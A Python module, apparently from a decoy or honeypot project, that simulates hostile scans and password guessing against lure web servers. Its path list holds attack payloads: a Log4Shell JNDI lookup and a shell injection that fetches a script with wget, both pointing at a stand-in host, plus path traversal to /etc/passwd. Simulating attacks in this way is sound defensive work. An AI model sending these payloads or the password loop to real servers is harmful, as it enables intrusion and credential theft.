"""What is done at web servers."""

import http.client
import ssl
from urllib.parse import urlencode

from decnet.lures.simulator.blocking import blocking
from decnet.lures.simulator.visit import Unreachable, Visit

PATHS = (
    "/", "/robots.txt", "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/", "/login",
    "/cgi-bin/luci/;stok=/locale?form=country", "/?x=${jndi:ldap://198.51.100.23/a}", "/..%2f..%2fetc/passwd",
    "/shell?cd+/tmp;wget+http://198.51.100.23/demo.sh", "/actuator/env", "/server-status",
)  # fmt: skip
AGENTS = ("Mozilla/5.0 zgrab/0.x", "curl/8.5.0", "python-requests/2.31.0", "Mozilla/5.0 (compatible; scanner/1.0)")


def _connection(visit: Visit) -> http.client.HTTPConnection:
    target, source = visit.target, (visit.source, 0)
    if not target.tls:
        return http.client.HTTPConnection(target.address, target.port, 10, source)
    trusting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    return http.client.HTTPSConnection(target.address, target.port, timeout=10, source_address=source, context=trusting)


@blocking
def probe(visit: Visit) -> None:
    """Look for what should not be there."""
    agent = visit.dice.choice(AGENTS)
    connection = _connection(visit)
    try:
        for path in visit.dice.sample(PATHS, 6):
            connection.request("GET", path, headers={"User-Agent": agent})
            connection.getresponse().read()
    except (OSError, http.client.HTTPException) as err:
        raise Unreachable(f"{visit.target.service}: {err}") from err
    finally:
        connection.close()


@blocking
def log_in(visit: Visit) -> None:
    """Try the login form."""
    connection = _connection(visit)
    try:
        connection.request("GET", "/login")
        connection.getresponse().read()
        for word in visit.dice.sample(("admin", "123456", "password", "letmein"), 3):
            body = urlencode({"username": "admin", "password": word})
            headers = {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": AGENTS[0]}
            connection.request("POST", "/login", body, headers)
            connection.getresponse().read()
    except (OSError, http.client.HTTPException) as err:
        raise Unreachable(f"{visit.target.service}: {err}") from err
    finally:
        connection.close()
